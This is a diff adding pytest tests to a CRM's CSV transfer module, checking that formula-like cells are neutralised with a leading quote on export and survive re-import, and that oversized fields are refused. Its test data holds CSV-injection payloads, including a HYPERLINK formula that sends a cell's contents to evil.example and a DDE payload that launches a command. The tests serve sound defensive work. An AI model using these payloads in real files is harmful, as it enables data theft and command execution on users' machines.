@@ -10,7 +10,8 @@ from decimal import Decimal
 import pytest
 
 from crm_core.domain.deals import EventKind, Priority, Source
-from crm_core.domain.errors import InvalidInput
+from crm_core.domain.errors import CrmError, InvalidInput
+from crm_core.domain.users import Role
 from crm_core.ports import FixedClock
 from crm_core.services import Crm
 from crm_core.services.transfer import EXPORT_COLUMNS, ImportError_
@@ -201,3 +202,76 @@ async def test_an_exported_file_imports_back_as_the_same_deals(
     assert sorted([{k: r[k] for k in same} for r in copies], key=lambda r: r["title"]) == sorted(
         [{k: r[k] for k in same} for r in original], key=lambda r: r["title"]
     )
+
+
+# -- formulas (CSV injection) ---------------------------------------------------------------------------
+
+FORMULA_TITLES = [
+    "=1+1",
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "'=already quoted by hand",  # a title that really starts with a quote before a formula character
+    "''+two quotes",
+    "'just a quote",
+    "-",
+]
+
+
+async def test_cells_that_start_like_a_formula_are_exported_with_a_leading_quote(
+    crm: Crm, team: Team
+) -> None:
+    evil = await crm.users.add(telegram_id=204, name="@Mallory", role=Role.SELLER)
+    deal = await crm.deals.create(
+        actor=evil, title="=1+1", contact_name="+Ivan", phone="+74951234567", amount="100"
+    )
+    await crm.deals.mark_lost(deal_id=deal.id, reason="-2+3 cheaper elsewhere", actor=evil)
+    [row] = await exported(crm)
+    assert (row["title"], row["owner_name"], row["contact_name"], row["lost_reason"]) == (
+        "'=1+1",
+        "'@Mallory",
+        "'+Ivan",
+        "'-2+3 cheaper elsewhere",
+    )
+    assert row["phone"] == "+74951234567"  # a number, which a spreadsheet never runs, is left as it is
+    for line in "".join(await crm.transfer.export_csv()).splitlines()[1:]:
+        for cell in next(csv.reader([line])):
+            assert not cell or cell[0] not in "=+-@\t\r" or cell.lstrip("+-").isdigit(), cell
+
+
+async def test_formula_like_titles_names_and_reasons_come_back_exactly_from_an_export(
+    crm: Crm, team: Team
+) -> None:
+    for number, title in enumerate(FORMULA_TITLES):
+        deal = await crm.deals.create(
+            actor=team.alice, title=title, contact_name=f"=Contact {number}", phone=f"+7495123456{number}"
+        )
+        if number % 2:
+            await crm.deals.mark_lost(deal_id=deal.id, reason=f"'{title}", actor=team.alice)
+    original = await exported(crm)
+    result = await crm.transfer.import_csv("".join(await crm.transfer.export_csv()))
+    assert (result.imported, result.errors) == (len(FORMULA_TITLES), [])
+    copies = [
+        (d.title, d.contact.name if d.contact else None, d.lost_reason)
+        for d in await crm.deals.list_deals(actor=team.boss)
+        if d.source is Source.IMPORT
+    ]
+    originals = [
+        (d.title, d.contact.name if d.contact else None, d.lost_reason)
+        for d in await crm.deals.list_deals(actor=team.boss)
+        if d.source is not Source.IMPORT
+    ]
+    assert sorted(copies, key=repr) == sorted(originals, key=repr)
+    assert sorted(t for t, _, _ in copies) == sorted(FORMULA_TITLES)
+    assert len(original) == len(FORMULA_TITLES)
+
+
+async def test_a_field_over_the_csv_limit_is_refused_in_one_sentence(crm: Crm, team: Team) -> None:
+    text = HEADER + "Fine,,,,,,,,,\n" + '"' + "x" * 200_000 + '",,,,,,,,,\n'
+    with pytest.raises(CrmError) as refusal:
+        await crm.transfer.import_csv(text)
+    assert str(refusal.value) == (
+        "Nothing was imported: line 3 cannot be read as CSV: a field is longer than 131072 characters."
+    )
+    assert await deal_count(crm) == 0
